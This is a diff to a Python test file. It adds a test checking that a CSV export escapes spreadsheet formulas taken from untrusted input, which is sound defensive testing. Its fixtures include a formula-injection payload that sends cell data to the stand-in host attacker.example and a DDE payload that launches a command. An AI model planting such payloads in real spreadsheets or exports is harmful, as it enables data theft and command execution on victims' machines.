@@ -9,7 +9,7 @@ import json
 from conftest import build_canonical
 
 from sitrep.export import ACLED_COLUMNS, iter_acled_csv, iter_geojson, iter_jsonl
-from sitrep.model import CanonicalEvent, Event
+from sitrep.model import CanonicalEvent, Event, Span
 
 
 def test_acled_csv_has_acled_columns_first_and_one_row_per_event() -> None:
@@ -59,3 +59,19 @@ def test_jsonl_round_trips() -> None:
     events = [build_canonical(i) for i in range(3)]
     lines = "".join(iter_jsonl(events)).splitlines()
     assert [CanonicalEvent.from_json(line) for line in lines] == events
+
+
+def test_acled_csv_defuses_spreadsheet_formulas_from_untrusted_text() -> None:
+    # An outlet name, an external id and an evidence sentence all come from the input: a cell
+    # that a spreadsheet would run as a formula must arrive as text, numbers stay numbers.
+    ce = build_canonical(0)
+    ce.outlets = ['=HYPERLINK("http://attacker.example/?"&A1,"open")']
+    ce.external_ids = ["@SUM(1+1)"]
+    ce.event.evidence = [Span(0, 17, "+cmd|' /C calc'!A0")]
+    ce.event.place.longitude = -1.5  # type: ignore[union-attr]
+    row = next(csv.DictReader(io.StringIO("".join(iter_acled_csv([ce])))))
+    assert row["source"].startswith("'=HYPERLINK(") and row["sitrep_outlets"].startswith("'=")
+    assert row["sitrep_external_ids"] == "'@SUM(1+1)"
+    assert row["notes"] == "'+cmd|' /C calc'!A0"
+    assert row["longitude"] == "-1.5"
+    assert all(not value.startswith(("=", "+", "@")) for value in row.values())
